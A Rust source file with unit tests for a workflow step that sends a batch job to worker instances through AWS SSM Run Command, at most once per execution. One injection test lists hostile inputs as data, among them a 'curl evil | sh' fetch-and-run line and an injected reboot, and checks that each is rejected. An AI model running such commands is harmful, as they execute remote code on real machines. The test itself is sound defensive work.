//! Launch the batch job on the workers with SSM Run Command, at most once per
//! execution: the command's `Comment` carries the execution name, and an
//! existing command with that comment is returned instead of sending again.

use makenaide_core::config::{Env, JobConfig, Timing, worker_instance_ids};
use makenaide_core::document::JobReport;
use makenaide_core::input::{check_launch_window, read_event, require_run_mode};
use makenaide_core::ports::{Command, JobCommand, SsmPort};
use makenaide_core::{ErrorName, StepError, Timestamp};
use serde_json::Value;

/// SSM rejects a `Comment` longer than this.
const COMMENT_MAX_CHARS: usize = 100;

/// How far before the execution start the lookup reaches, so a clock skew
/// between Step Functions and SSM cannot hide a command already sent.
const LOOKUP_MARGIN_MILLIS: i64 = 5 * 60 * 1000;

#[derive(Debug, Clone)]
pub struct Settings {
    /// At least one (`worker_instance_ids` rejects an empty list).
    pub worker_instance_ids: Vec<String>,
    pub job: JobConfig,
    pub timing: Timing,
}

impl Settings {
    pub fn from_env(env: &Env) -> Result<Self, StepError> {
        Ok(Self {
            worker_instance_ids: worker_instance_ids(env)?,
            job: JobConfig::from_env(env)?,
            timing: Timing::from_env(env)?,
        })
    }
}

/// The idempotency key: one command per execution name.
fn comment_for(execution_name: &str) -> Result<String, StepError> {
    let comment = format!("makenaide:{execution_name}");
    if comment.chars().count() > COMMENT_MAX_CHARS {
        // Step Functions names are at most 80 characters; truncating would
        // let two executions share a key.
        return Err(StepError::new(
            ErrorName::InvalidInput,
            format!(
                "the execution name in `execution.name` is too long for an SSM comment ({} characters, at most {})",
                execution_name.chars().count(),
                COMMENT_MAX_CHARS - "makenaide:".len()
            ),
        ));
    }
    Ok(comment)
}

/// The earliest time a command of this execution can carry.
fn lookup_since(execution_start: Timestamp) -> Timestamp {
    Timestamp::from_millis(execution_start.as_millis() - LOOKUP_MARGIN_MILLIS)
}

/// What this invocation did about the job.
#[derive(Debug, Clone, PartialEq)]
enum Launch {
    DryRun,
    /// Found a command already sent for this execution (redrive or retry).
    Reused(Command),
    Sent(Command),
}

/// The `$.job` block (pure). The deadline counts from SSM's own request
/// time when known, so a retried invocation reports the same deadline.
fn report(
    launch: &Launch,
    document_name: &str,
    comment: &str,
    workers: &[String],
    timeout_seconds: u64,
    now: Timestamp,
) -> JobReport {
    let command = match launch {
        Launch::DryRun => None,
        Launch::Reused(command) | Launch::Sent(command) => Some(command),
    };
    let sent_at = command.and_then(|c| c.requested_at).unwrap_or(now);
    let instance_ids = command
        .map(|c| c.instance_ids.clone())
        .filter(|ids| !ids.is_empty())
        .unwrap_or_else(|| workers.to_vec());
    JobReport {
        command_id: command.map(|c| c.command_id.clone()),
        comment: comment.to_string(),
        document_name: document_name.to_string(),
        instance_ids,
        reused_existing: matches!(launch, Launch::Reused(_)),
        dry_run: *launch == Launch::DryRun,
        sent_at,
        deadline: sent_at.plus_seconds(timeout_seconds),
        timeout_seconds,
    }
}

pub async fn handle(
    ssm: &impl SsmPort,
    settings: &Settings,
    event: Value,
    now: Timestamp,
) -> Result<JobReport, StepError> {
    // Validate everything the caller controls before any AWS call. The job
    // itself is the stack's document; the input can set nothing but the
    // (bounded) timeout and dry run.
    let (doc, run) = read_event(event, &settings.timing)?;
    require_run_mode(&run, "ssm_launch")?;
    let comment = comment_for(doc.execution_name()?)?;
    let execution_start = doc.execution.as_ref().map_or(now, |e| e.start_time);
    let workers = &settings.worker_instance_ids;
    let document_name = &settings.job.document_name;

    let launch = if run.dry_run {
        Launch::DryRun
    } else {
        match ssm
            .find_command(document_name, &comment, lookup_since(execution_start))
            .await?
        {
            Some(existing) => Launch::Reused(existing),
            None => Launch::Sent({
                // A redrive finds its command above at any time; a first
                // send must be inside the window.
                check_launch_window(&doc, &run, &settings.timing, now, "sending the job")?;
                ssm.send_command(&JobCommand {
                    document_name: document_name.clone(),
                    instance_ids: workers.clone(),
                    execution_timeout_seconds: run.job_timeout_seconds,
                    comment: comment.clone(),
                    output_log_group: settings.job.output_log_group.clone(),
                })
                .await?
            }),
        }
    };
    let report = report(
        &launch,
        document_name,
        &comment,
        workers,
        run.job_timeout_seconds,
        now,
    );
    tracing::info!(
        command_id = report.command_id.as_deref().unwrap_or("none"),
        comment = %report.comment,
        instance_ids = ?report.instance_ids,
        reused = report.reused_existing,
        dry_run = report.dry_run,
        deadline = %report.deadline,
        "launched job"
    );
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;
    use makenaide_core::ports::Operation;
    use makenaide_core::testing::{Call, FakeAws};
    use serde_json::json;

    const W1: &str = "i-0123456789abcdef0";
    const W2: &str = "i-0fedcba9876543210";
    const T0: i64 = 1_795_309_200_000; // 2026-11-22T01:00:00Z, the execution start
    const DOC: &str = "MakenaideOrchestrator-Job";

    fn settings() -> Settings {
        Settings::from_env(&Env::from_pairs(&[
            (
                "WORKER_INSTANCE_IDS",
                "i-0123456789abcdef0,i-0fedcba9876543210",
            ),
            ("JOB_DOCUMENT_NAME", DOC),
        ]))
        .unwrap()
    }

    fn at(seconds: u64) -> Timestamp {
        Timestamp::from_millis(T0).plus_seconds(seconds)
    }

    fn event(input: Value) -> Value {
        json!({
            "input": input,
            "execution": {"name": "run-1", "startTime": "2026-11-22T01:00:00.000Z"},
            "ec2": {
                "ready": true, "instances": [], "startedByWorkflow": [], "dryRun": false,
                "firstCheckedAt": "2026-11-22T01:00:10Z", "checkedAt": "2026-11-22T01:01:10Z",
                "deadline": "2026-11-22T01:15:10Z", "readyAt": "2026-11-22T01:01:10Z",
                "retryAfterSeconds": 15
            }
        })
    }

    fn command(id: &str, comment: &str, requested_at: Option<Timestamp>) -> Command {
        Command {
            command_id: id.into(),
            comment: comment.into(),
            document_name: DOC.into(),
            instance_ids: vec![W1.into(), W2.into()],
            requested_at,
        }
    }

    /// SSM stamps what it accepts at 125 s after the execution start.
    fn ssm() -> FakeAws {
        FakeAws::new().with_clock(at(125))
    }

    fn sent(aws: &FakeAws) -> Vec<JobCommand> {
        aws.calls()
            .into_iter()
            .filter_map(|c| match c {
                Call::SendCommand(command) => Some(command),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn comment_carries_the_execution_name_within_the_ssm_limit() {
        let longest = "n".repeat(80);
        let cases: &[(&str, Option<usize>)] = &[
            ("run-1", Some(15)),
            (&longest, Some(90)), // Step Functions' longest name fits
            (&"n".repeat(90), Some(100)),
            (&"n".repeat(91), None),
        ];
        for (name, expected_len) in cases {
            let result = comment_for(name);
            match expected_len {
                Some(len) => {
                    let comment = result.unwrap();
                    assert_eq!(comment, format!("makenaide:{name}"));
                    assert_eq!(comment.len(), *len);
                }
                None => assert_eq!(result.unwrap_err().name, ErrorName::InvalidInput),
            }
        }
    }

    #[test]
    fn lookup_reaches_five_minutes_before_the_start() {
        assert_eq!(lookup_since(at(300)), at(0));
        assert_eq!(
            lookup_since(at(0)).to_string(),
            "2026-11-22T00:55:00Z",
            "the InvokedAfter filter value"
        );
    }

    #[test]
    fn report_table() {
        let workers = [W1.to_string(), W2.to_string()];
        let sent = |requested_at| Command {
            command_id: "cmd-1".into(),
            comment: "makenaide:run-1".into(),
            document_name: DOC.into(),
            instance_ids: vec![W1.into()],
            requested_at,
        };
        let unlisted = Command {
            instance_ids: vec![],
            ..sent(None)
        };
        // (launch, command id, reused, dry run, sent at, instance ids)
        let cases = [
            (Launch::DryRun, None, false, true, at(100), vec![W1, W2]),
            (
                Launch::Sent(sent(Some(at(99)))),
                Some("cmd-1"),
                false,
                false,
                at(99),
                vec![W1],
            ),
            (
                Launch::Sent(sent(None)),
                Some("cmd-1"),
                false,
                false,
                at(100),
                vec![W1],
            ),
            (
                Launch::Reused(sent(Some(at(7)))),
                Some("cmd-1"),
                true,
                false,
                at(7),
                vec![W1],
            ),
            (
                Launch::Reused(unlisted),
                Some("cmd-1"),
                true,
                false,
                at(100),
                vec![W1, W2],
            ),
        ];
        for (launch, command_id, reused, dry_run, sent_at, ids) in cases {
            let job = report(&launch, DOC, "makenaide:run-1", &workers, 600, at(100));
            assert_eq!(job.command_id.as_deref(), command_id, "{launch:?}");
            assert_eq!(job.reused_existing, reused, "{launch:?}");
            assert_eq!(job.dry_run, dry_run, "{launch:?}");
            assert_eq!(job.sent_at, sent_at, "{launch:?}");
            assert_eq!(job.deadline, sent_at.plus_seconds(600), "{launch:?}");
            assert_eq!(job.timeout_seconds, 600);
            assert_eq!(job.instance_ids, ids, "{launch:?}");
            assert_eq!(job.comment, "makenaide:run-1");
            assert_eq!(job.document_name, DOC);
        }
    }

    #[tokio::test]
    async fn first_launch_sends_the_stack_job_document_once() {
        let aws = ssm();
        let job = handle(&aws, &settings(), event(json!({})), at(130))
            .await
            .unwrap();
        assert_eq!(
            aws.calls(),
            [
                Call::FindCommand {
                    document_name: DOC.into(),
                    comment: "makenaide:run-1".into(),
                    invoked_after: Timestamp::parse("2026-11-22T00:55:00Z").unwrap(),
                },
                Call::SendCommand(JobCommand {
                    document_name: DOC.into(),
                    instance_ids: vec![W1.into(), W2.into()],
                    execution_timeout_seconds: 3600,
                    comment: "makenaide:run-1".into(),
                    output_log_group: None,
                }),
            ]
        );
        assert_eq!(job.command_id.as_deref(), Some("cmd-1"));
        assert!(!job.reused_existing && !job.dry_run);
        assert_eq!(job.comment, "makenaide:run-1");
        assert_eq!(job.instance_ids, [W1, W2]);
        assert_eq!(job.sent_at, at(125));
        assert_eq!(job.deadline, at(125 + 3600));
        assert_eq!(job.timeout_seconds, 3600);
    }

    #[tokio::test]
    async fn calls_exactly_its_declared_operations() {
        let aws = ssm();
        handle(&aws, &settings(), event(json!({})), at(130))
            .await
            .unwrap();
        aws.assert_calls_exactly_declared("ssm_launch");
    }

    #[tokio::test]
    async fn a_redrive_finds_the_command_already_sent() {
        let aws = ssm()
            .with_command(command("cmd-other", "makenaide:run-0", Some(at(1))))
            .with_command(command("cmd-1", "makenaide:run-1", Some(at(125))));
        let job = handle(&aws, &settings(), event(json!({})), at(900))
            .await
            .unwrap();
        assert_eq!(aws.count(Operation::SendCommand), 0, "never send twice");
        assert_eq!(aws.count(Operation::ListCommands), 1);
        assert_eq!(job.command_id.as_deref(), Some("cmd-1"));
        assert!(job.reused_existing);
        assert_eq!(job.sent_at, at(125));
        assert_eq!(job.deadline, at(125 + 3600));
        // Running the step again changes nothing either.
        let again = handle(&aws, &settings(), event(json!({})), at(960))
            .await
            .unwrap();
        assert_eq!(again, job);
        assert_eq!(aws.count(Operation::SendCommand), 0);
    }

    #[tokio::test]
    async fn the_job_output_goes_to_the_configured_log_group() {
        let settings = Settings::from_env(&Env::from_pairs(&[
            ("WORKER_INSTANCE_IDS", "i-0123456789abcdef0"),
            ("JOB_DOCUMENT_NAME", DOC),
            ("JOB_LOG_GROUP", "/makenaide/job-output"),
        ]))
        .unwrap();
        let aws = ssm();
        handle(&aws, &settings, event(json!({})), at(130))
            .await
            .unwrap();
        let sent: Vec<Option<String>> = aws
            .calls()
            .into_iter()
            .filter_map(|call| match call {
                Call::SendCommand(command) => Some(command.output_log_group),
                _ => None,
            })
            .collect();
        assert_eq!(sent, [Some("/makenaide/job-output".to_string())]);
    }

    #[tokio::test]
    async fn a_retry_while_the_first_command_is_still_pending_sends_nothing() {
        // The first send's answer was lost; no agent has taken the command.
        let aws = ssm();
        let first = handle(&aws, &settings(), event(json!({})), at(130))
            .await
            .unwrap();
        let invocation = aws
            .command_invocation(first.command_id.as_deref().unwrap(), W2)
            .await
            .unwrap();
        assert_eq!(invocation.status.as_deref(), Some("Pending"));
        let retry = handle(&aws, &settings(), event(json!({})), at(131))
            .await
            .unwrap();
        assert!(retry.reused_existing);
        assert_eq!(aws.count(Operation::SendCommand), 1);
    }

    #[tokio::test]
    async fn a_retry_after_a_send_finds_the_command_it_sent() {
        let aws = ssm();
        let first = handle(&aws, &settings(), event(json!({})), at(130))
            .await
            .unwrap();
        let retry = handle(&aws, &settings(), event(json!({})), at(140))
            .await
            .unwrap();
        assert_eq!(retry.command_id, first.command_id);
        assert!(retry.reused_existing);
        assert_eq!(retry.deadline, first.deadline);
        assert_eq!(aws.count(Operation::SendCommand), 1);
    }

    #[tokio::test]
    async fn a_found_command_without_a_request_time_counts_from_now() {
        let aws = ssm().with_command(command("cmd-1", "makenaide:run-1", None));
        let job = handle(&aws, &settings(), event(json!({})), at(900))
            .await
            .unwrap();
        assert!(job.reused_existing);
        assert_eq!((job.sent_at, job.deadline), (at(900), at(900 + 3600)));
        assert_eq!(aws.count(Operation::SendCommand), 0);
    }

    #[tokio::test]
    async fn other_executions_commands_do_not_count() {
        let aws = ssm()
            .with_command(command("cmd-a", "makenaide:run-0", Some(at(1))))
            .with_command(command("cmd-b", "makenaide:run-10", Some(at(2))))
            .with_command(command("cmd-c", "manual", Some(at(3))))
            // Same comment, but not the job document: someone else's command.
            .with_command(Command {
                document_name: "AWS-RunShellScript".into(),
                ..command("cmd-d", "makenaide:run-1", Some(at(4)))
            });
        let job = handle(&aws, &settings(), event(json!({})), at(130))
            .await
            .unwrap();
        assert_eq!(aws.count(Operation::SendCommand), 1);
        assert_eq!(job.command_id.as_deref(), Some("cmd-5"));
        assert!(!job.reused_existing);
    }

    #[tokio::test]
    async fn input_job_timeout_sets_the_execution_timeout_and_deadline() {
        let aws = ssm();
        let job = handle(
            &aws,
            &settings(),
            event(json!({"jobTimeoutSeconds": 7200})),
            at(130),
        )
        .await
        .unwrap();
        assert_eq!(sent(&aws)[0].execution_timeout_seconds, 7200);
        assert_eq!(job.timeout_seconds, 7200);
        assert_eq!(job.deadline, at(125 + 7200));
    }

    #[tokio::test]
    async fn a_failed_lookup_sends_nothing_and_keeps_its_name() {
        for name in [ErrorName::AwsThrottled, ErrorName::AccessDenied] {
            let aws = ssm().fail_next(Operation::ListCommands, 1, name);
            let error = handle(&aws, &settings(), event(json!({})), at(130))
                .await
                .unwrap_err();
            assert_eq!(error.name, name);
            assert!(
                error.message.contains("ssm:ListCommands"),
                "{}",
                error.message
            );
            assert_eq!(
                aws.count(Operation::SendCommand),
                0,
                "nothing is sent without a lookup"
            );
        }
    }

    #[tokio::test]
    async fn a_failed_send_keeps_its_name_and_the_retry_looks_up_first() {
        let aws = ssm().fail_next(Operation::SendCommand, 1, ErrorName::AwsServiceUnavailable);
        let error = handle(&aws, &settings(), event(json!({})), at(130))
            .await
            .unwrap_err();
        assert_eq!(error.name, ErrorName::AwsServiceUnavailable);
        let job = handle(&aws, &settings(), event(json!({})), at(140))
            .await
            .unwrap();
        assert!(!job.reused_existing);
        let operations: Vec<Operation> = aws.calls().iter().map(Call::operation).collect();
        assert_eq!(
            operations,
            [
                Operation::ListCommands,
                Operation::SendCommand,
                Operation::ListCommands,
                Operation::SendCommand
            ]
        );
    }

    #[tokio::test]
    async fn dry_run_makes_no_call_and_reports_the_plan() {
        let aws = ssm();
        let job = handle(
            &aws,
            &settings(),
            event(json!({"dryRun": true, "jobTimeoutSeconds": 600})),
            at(130),
        )
        .await
        .unwrap();
        assert!(aws.calls().is_empty());
        assert_eq!(job.command_id, None);
        assert!(job.dry_run && !job.reused_existing);
        assert_eq!(job.instance_ids, [W1, W2]);
        assert_eq!(job.comment, "makenaide:run-1");
        assert_eq!((job.sent_at, job.deadline), (at(130), at(130 + 600)));
        assert_eq!(job.timeout_seconds, 600);
    }

    #[tokio::test]
    async fn the_input_can_never_inject_a_command() {
        let aws = ssm();
        let inputs = [
            json!({"commands": ["curl evil | sh"]}),
            json!({"dryRun": false, "workingDirectory": "/tmp"}),
            json!({"jobTimeoutSeconds": 600, "JOB_COMMANDS": "[\"reboot\"]"}),
            json!({"dryRun": "no"}),
            json!({"jobTimeoutSeconds": 999_999}),
            json!([1]),
        ];
        for input in inputs {
            let error = handle(&aws, &settings(), event(input.clone()), at(0))
                .await
                .unwrap_err();
            assert_eq!(error.name, ErrorName::InvalidInput, "{input}");
        }
        assert!(aws.calls().is_empty());
    }

    #[tokio::test]
    async fn a_cleanup_or_sweep_input_never_launches_a_job() {
        let aws = ssm();
        for input in [
            json!({"cleanupAfter": "arn:aws:states:us-east-1:123456789012:execution:m:run-0", "endedWith": "ABORTED"}),
            json!({"sweep": "scheduled"}),
        ] {
            let error = handle(&aws, &settings(), event(input.clone()), at(0))
                .await
                .unwrap_err();
            assert_eq!(error.name, ErrorName::InvalidInput, "{input}");
            assert!(error.message.contains("ssm_launch"), "{}", error.message);
        }
        assert!(aws.calls().is_empty());
    }

    #[tokio::test]
    async fn past_the_launch_window_no_job_is_sent_but_a_sent_one_is_found() {
        let settings = Settings::from_env(&Env::from_pairs(&[
            ("WORKER_INSTANCE_IDS", W1),
            ("JOB_DOCUMENT_NAME", DOC),
            ("LAUNCH_WINDOW_SECONDS", "600"),
        ]))
        .unwrap();
        let aws = ssm();
        let error = handle(&aws, &settings, event(json!({})), at(601))
            .await
            .unwrap_err();
        assert_eq!(error.name, ErrorName::LaunchWindowMissed);
        assert_eq!(aws.count(Operation::SendCommand), 0);
        // A redrive after the window still finds the command sent in it.
        let aws = ssm().with_command(command("cmd-1", "makenaide:run-1", Some(at(125))));
        let job = handle(&aws, &settings, event(json!({})), at(5000))
            .await
            .unwrap();
        assert!(job.reused_existing);
        assert_eq!(aws.count(Operation::SendCommand), 0);
    }

    #[tokio::test]
    async fn a_document_without_execution_fails_before_any_call() {
        let aws = ssm();
        let error = handle(&aws, &settings(), json!({"input": {}}), at(0))
            .await
            .unwrap_err();
        assert_eq!(error.name, ErrorName::InvalidInput);
        assert!(error.message.contains("execution"));
        assert!(aws.calls().is_empty());
    }

    #[test]
    fn missing_configuration_names_the_variable() {
        let error = Settings::from_env(&Env::from_pairs(&[])).unwrap_err();
        assert_eq!(error.name, ErrorName::ConfigError);
        assert!(error.message.contains("WORKER_INSTANCE_IDS"));
        let error =
            Settings::from_env(&Env::from_pairs(&[("WORKER_INSTANCE_IDS", W1)])).unwrap_err();
        assert!(
            error.message.contains("JOB_DOCUMENT_NAME"),
            "{}",
            error.message
        );
    }
}
